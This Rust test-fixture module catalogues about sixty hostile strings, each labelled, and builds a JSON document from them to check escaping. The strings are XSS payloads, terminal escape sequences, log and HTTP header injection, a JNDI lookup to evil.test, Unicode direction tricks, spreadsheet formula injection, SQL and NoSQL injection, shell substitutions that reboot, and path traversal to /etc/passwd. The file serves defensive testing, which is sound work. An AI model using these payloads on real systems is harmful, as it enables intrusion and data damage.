//! Strings that mean harm to whoever shows them, keeps them or puts them into a line.

/// One of them, with what it is for.
#[derive(Debug, Clone, Copy)]
pub struct Hostile {
    /// What it tries, in a few words.
    pub what: &'static str,
    /// The string.
    pub text: &'static str,
}

const fn one(what: &'static str, text: &'static str) -> Hostile {
    Hostile { what, text }
}

/// All of them.
#[rustfmt::skip] // a table: one row, one line
pub const ALL: &[Hostile] = &[
    // Pages.
    one("a script", "<script>alert(1)</script>"),
    one("an image that runs a script", "<img src=x onerror=alert(1)>"),
    one("the end of a script", "</script><script>alert(1)</script>"),
    one("the end of an attribute", "\" onmouseover=\"alert(1)"),
    one("the end of an attribute in single quotes", "' autofocus onfocus='alert(1)"),
    one("a drawing that runs a script", "<svg/onload=alert(1)>"),
    one("a frame", "<iframe srcdoc='<script>alert(1)</script>'>"),
    one("a style", "</style><style>*{display:none}</style>"),
    one("a comment", "--><!--"),
    one("a character reference", "&lt;script&gt;&#x3c;"),
    one("a link that is a script", "javascript:alert(1)"),
    one("a template", "{{constructor.constructor('alert(1)')()}}"),
    one("a template of another kind", "${7*7}#{7*7}<%= 7*7 %>"),
    one("a base", "<base href=//evil.test/>"),
    one("a redirect", "<meta http-equiv=refresh content='0;url=//evil.test'>"),
    // Terminals.
    one("clear the screen", "\u{1b}[2J\u{1b}[H"),
    one("a title", "\u{1b}]0;owned\u{7}"),
    one("a link", "\u{1b}]8;;http://evil.test\u{1b}\\click\u{1b}]8;;\u{1b}\\"),
    one("the clipboard", "\u{1b}]52;c;cm0gLXJm\u{7}"),
    one("colours", "\u{1b}[31;1mred\u{1b}[0m"),
    one("a device's answer", "\u{1b}[c\u{1b}[6n"),
    one("a sequence with one character", "\u{9b}2J"),
    one("a title with one character", "\u{9d}0;owned\u{9c}"),
    one("a device's control string", "\u{90}+q544e\u{9c}\u{1b}P$q\u{1b}\\"),
    one("backspaces", "passed\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}failed"),
    one("a bell", "\u{7}\u{7}\u{7}"),
    one("an overwritten line", "failed\rpassed"),
    one("a form feed", "a\u{c}b\u{b}c"),
    one("the other character set", "\u{e}lqqk\u{f}"),
    one("delete", "a\u{7f}b"),
    // Logs.
    one("a second log line", "a\r\n2026-01-01T00:00:00Z  INFO login user=admin"),
    one("a second log line after LF", "a\nERROR the disk is full"),
    one("a second line in JSON", "a\"}\n{\"level\":\"INFO\",\"message\":\"b"),
    one("a line separator", "a\u{2028}b\u{2029}c\u{85}d"),
    one("a lookup", "${jndi:ldap://evil.test/a}"),
    one("a format", "%s%s%n%x{}{0}"),
    // Reading order and invisible characters.
    one("right to left", "\u{202e}dessap"),
    one("left to right", "\u{202d}abc\u{202c}"),
    one("isolates", "\u{2067}abc\u{2069}\u{2066}"),
    one("marks of direction", "a\u{200e}b\u{200f}c\u{61c}"),
    one("zero width", "ad\u{200b}min\u{200c}\u{200d}"),
    one("a byte order mark", "\u{feff}a\u{feff}"),
    one("a soft hyphen", "ad\u{ad}min"),
    one("tags", "a\u{e0041}\u{e0042}\u{e007f}"),
    one("blank letters", "\u{3164}\u{115f}\u{2800}"),
    one("private use", "\u{e000}\u{f8ff}\u{100000}"),
    one("no characters", "\u{fdd0}\u{ffff}\u{10ffff}"),
    one("notes between lines", "a\u{fff9}b\u{fffa}c\u{fffb}"),
    one("marks piled up", "x\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}"),
    one("a letter of another script", "p\u{430}ssed"),
    // Tables, queries, shells, paths.
    one("a formula", "=HYPERLINK(\"http://evil.test\",\"a\")"),
    one("a formula with a sign", "+cmd|' /C calc'!A0"),
    one("a formula with an at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    one("the end of a cell", "a\",\"b\"\n\"c"),
    one("an operator of a query", "{\"$gt\":\"\"}"),
    one("a query", "' OR 1=1; --"),
    one("a shell", "$(reboot)`reboot`; reboot"),
    one("a path", "../../../../etc/passwd"),
    one("an event of a stream", "a\n\nevent: verdict\ndata: {\"state\":\"passed\"}\n\n"),
    one("a field of HTTP", "a\r\nSet-Cookie: a=b\r\n\r\n<p>"),
    one("a NUL", "a\0b"),
];

/// A good answer that holds all of them as values and as keys, but for NUL, which no answer may
/// hold; escaped to ASCII, or raw wherever JSON allows it.
pub(super) fn document(escaped: bool) -> Vec<u8> {
    let mut text = String::from("{\"ok\":true,\"strings\":[");
    let usable = ALL.iter().filter(|one| !one.text.contains('\0'));
    for (index, hostile) in usable.clone().enumerate() {
        text.push_str(if index == 0 { "\"" } else { ",\"" });
        text.push_str(&quoted(hostile.text, escaped));
        text.push('"');
    }
    text.push_str("],\"keys\":{");
    for (index, hostile) in usable.enumerate() {
        text.push_str(if index == 0 { "\"" } else { ",\"" });
        text.push_str(&quoted(hostile.text, escaped));
        text.push_str(&format!("\":{index}"));
    }
    text.push_str("}}");
    text.into_bytes()
}

fn quoted(text: &str, escaped: bool) -> String {
    let mut out = String::new();
    for letter in text.chars() {
        match letter {
            '"' | '\\' => out.extend(['\\', letter]),
            ' '..='~' => out.push(letter),
            '\u{80}'.. if !escaped => out.push(letter),
            _ => {
                for unit in letter.encode_utf16(&mut [0; 2]) {
                    out.push_str(&format!("\\u{unit:04x}"));
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_document_is_json_and_holds_every_string() {
        for escaped in [true, false] {
            let document: serde_json::Value = serde_json::from_slice(&document(escaped)).unwrap();
            let strings = document["strings"].as_array().unwrap();
            let usable: Vec<_> = ALL.iter().filter(|one| !one.text.contains('\0')).collect();
            assert_eq!(strings.len(), usable.len());
            for (string, hostile) in strings.iter().zip(usable) {
                assert_eq!(string.as_str(), Some(hostile.text), "{}", hostile.what);
            }
        }
        assert!(ALL.len() >= 60, "{}", ALL.len());
    }
}
